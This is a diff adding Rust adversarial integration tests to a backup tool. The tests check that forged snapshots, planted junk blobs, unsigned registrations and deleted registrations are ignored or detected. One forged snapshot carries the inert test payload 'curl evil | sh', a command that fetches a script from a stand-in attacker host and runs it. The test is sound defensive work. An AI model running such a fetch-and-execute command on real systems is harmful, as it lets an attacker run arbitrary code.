@@ -10,6 +10,7 @@ use std::path::{Path, PathBuf};
 use std::process::Command;
 
 use coffer::format::pack::BlobKind;
+use coffer::id::Id;
 use common::adversary::{owner_blob_ids, KeyThief, StorageOwner};
 use common::tree::{write_random, KIB};
 use common::*;
@@ -340,4 +341,76 @@ fn a_write_only_keys_snapshot_grants_no_privileges_and_keeps_its_origin_when_cop
     dest.restore_with("latest", &target, &[]);
     let mode = std::fs::metadata(restored_path(&target, &src).join("shell")).expect("stat").permissions().mode();
     assert_eq!(mode & 0o7777, 0o755, "the copy restored the set-user-id bit");
+}
+
+/// A key nobody registered (made from what `config` tells any reader of the store) gets
+/// nowhere: its snapshot claiming the owner's host and path, its junk under the owner's ids
+/// (the oracle plays the strongest such writer) in packs that sort first, and a forged
+/// registration of itself are ignored; the owner's commands then lose and change nothing.
+#[test]
+fn a_never_registered_key_gets_nowhere() {
+    let (c, src, key) = backed_up_by_a_write_only_key();
+    owner_backup(&c, &src);
+    let outsider = KeyThief::never_registered(&c);
+    let lowest = owner_blob_ids(&c).iter().map(|(_, _, pack)| *pack).min().expect("packs");
+    let (data, trees): (Vec<_>, Vec<_>) =
+        owner_blob_ids(&c).into_iter().map(|(id, kind, _)| (id, kind)).partition(|(_, k)| *k == BlobKind::Data);
+    outsider.plant_junk(&data, Some(lowest));
+    outsider.plant_junk(&trees, Some(lowest));
+    let forged = outsider.forge_snapshot_of(OWNER_HOST, &src, vec![outsider.blob_id(b"curl evil | sh\n")]);
+    let registration = format!("signers/{}", Id::of_bytes(b"forged registration").to_hex());
+    outsider.objects.put(&registration, b"CFSIGN02 a registration nobody signed");
+
+    for (round, cache) in [None, Some(c.dir("fresh-db"))].into_iter().enumerate() {
+        let cache = cache.as_deref();
+        let listed = owner(&c, cache, &[&"snapshots", &"--json"]);
+        listed.assert_code(0);
+        let listed = listed.json();
+        // The key's one, the owner's first, and the one each round adds.
+        assert_eq!(listed.as_array().expect("array").len(), 2 + round, "{listed}");
+        assert!(!listed.to_string().contains(&forged.to_hex()));
+        latest_restores_exactly(&c, cache, &src, &format!("before-{}", cache.is_some()));
+        let out = owner(&c, cache, &[&"check"]);
+        out.assert_failed();
+        assert!(out.all().contains(&forged.short()), "{out}");
+        owner(&c, cache, &[&"prune", &"--max-unused", &"0"]).assert_code(0);
+        latest_restores_exactly(&c, cache, &src, &format!("after-{}", cache.is_some()));
+        // Deduplication is not poisoned: a new backup of the same data restores.
+        let again = owner_backup(&c, &src);
+        let target = c.path(&format!("again-{}", cache.is_some()));
+        owner(&c, cache, &[&"restore", &string(&again, "snapshot_id"), &"--target", &target]).assert_code(0);
+        assert_trees_equal(&src, &restored_path(&target, &src));
+    }
+    // The registered key still backs up and its snapshot restores.
+    let mut cmd = as_key_holder(&c, &key, &c.dir("key-cache"));
+    cmd.args(["backup", "--host", THIEF_HOST]).arg(&src);
+    run(cmd, DEFAULT_TIMEOUT).assert_code(0);
+    let target = c.path("keys-own");
+    owner(&c, None, &[&"restore", &"latest", &"--host", &THIEF_HOST, &"--target", &target]).assert_code(0);
+    assert_trees_equal(&src, &restored_path(&target, &src));
+}
+
+/// The storage owner deletes a write-only key's registration: every snapshot the owner wrote
+/// since names it, so a machine with a fresh database says which object is withheld instead of
+/// quietly distrusting (and then forgetting or pruning) that key's snapshots.
+#[test]
+fn a_deleted_registration_is_detected_with_a_fresh_database() {
+    let (c, src, _key) = backed_up_by_a_write_only_key();
+    owner_backup(&c, &src);
+    let storage = StorageOwner::of(&c);
+    let registrations = storage.objects("signers/");
+    assert_eq!(registrations.len(), 1, "{registrations:?}");
+    storage.delete(&registrations[0]);
+
+    let fresh = c.dir("fresh-db");
+    let out = owner(&c, Some(&fresh), &[&"check"]);
+    out.assert_failed();
+    assert!(out.all().contains(&registrations[0]) && out.all().contains("withholds"), "{out}");
+    let out = owner(&c, Some(&fresh), &[&"prune"]);
+    out.assert_failed();
+    assert!(out.stderr().contains("prune deletes nothing"), "{out}");
+    let out = owner(&c, Some(&fresh), &[&"forget", &"--keep-last", &"1", &"--prune"]);
+    out.assert_failed();
+    // Nothing was deleted.
+    assert_eq!(StorageOwner::of(&c).objects("snapshots/").len(), 2);
 }
